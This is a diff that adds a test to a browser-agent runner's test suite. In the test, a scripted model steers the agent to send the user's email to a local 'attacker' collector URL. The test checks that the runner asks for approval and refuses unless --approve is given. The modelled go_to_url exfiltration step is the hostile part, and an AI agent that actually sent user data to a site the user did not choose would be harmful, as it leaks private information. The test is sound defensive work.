@@ -10,13 +10,16 @@ import { startSiteServer } from '../support/site-server.mjs';
 import { SHOP_TASK, shopScript, runRunner } from '../support/fixtures.mjs';
 
 let site;
+let attacker;
 
 before(async () => {
   site = await startSiteServer();
+  attacker = await startSiteServer();
 });
 
 after(async () => {
   await site?.close();
+  await attacker?.close();
 });
 
 test('the runner completes the shop task, printing one JSON event per line', async () => {
@@ -154,3 +157,27 @@ for (const provider of ['anthropic', 'gemini']) {
     }
   });
 }
+
+test('the runner refuses to send the user\'s data to a site they did not choose, unless --approve', async () => {
+  const collector = `${attacker.origin.replace('127.0.0.1', 'localhost')}/collect?email=ada@example.org`;
+  const script = () => [{ actions: [{ go_to_url: { url: collector } }] }, { actions: [{ done: { text: 'Done.', success: true } }] }];
+  const args = (llm) => ['--task', 'Sign me up for the newsletter with my email ada@example.org', '--url', `${site.origin}/exfil/newsletter.html`,
+    '--base-url', llm.baseUrl, '--model', 'scripted', '--max-steps', '4', '--no-validator'];
+  let llm = await startLlmServer(script());
+  try {
+    const { stdout, stderr } = await runner(args(llm));
+    assert.match(stdout, /^Approval needed: This would send ada@example\.org \(an email address from your task\) to localhost:\d+, by opening http:\/\/localhost:\d+\/collect\?email=ada@example\.org\. Allow it\?\n  refused \(use --approve to allow\)$/m, stderr);
+    assert.match(stdout, /✗ go_to_url: The user did not allow sending ada@example\.org to localhost:\d+/);
+    assert.deepEqual(attacker.requests, []);
+  } finally {
+    await llm.close();
+  }
+  llm = await startLlmServer(script());
+  try {
+    const { stdout } = await runner([...args(llm), '--approve']);
+    assert.match(stdout, /^  allowed \(--approve\)$/m);
+    assert.deepEqual(attacker.requests.filter((path) => path !== '/favicon.ico'), ['/collect?email=ada@example.org']);
+  } finally {
+    await llm.close();
+  }
+});
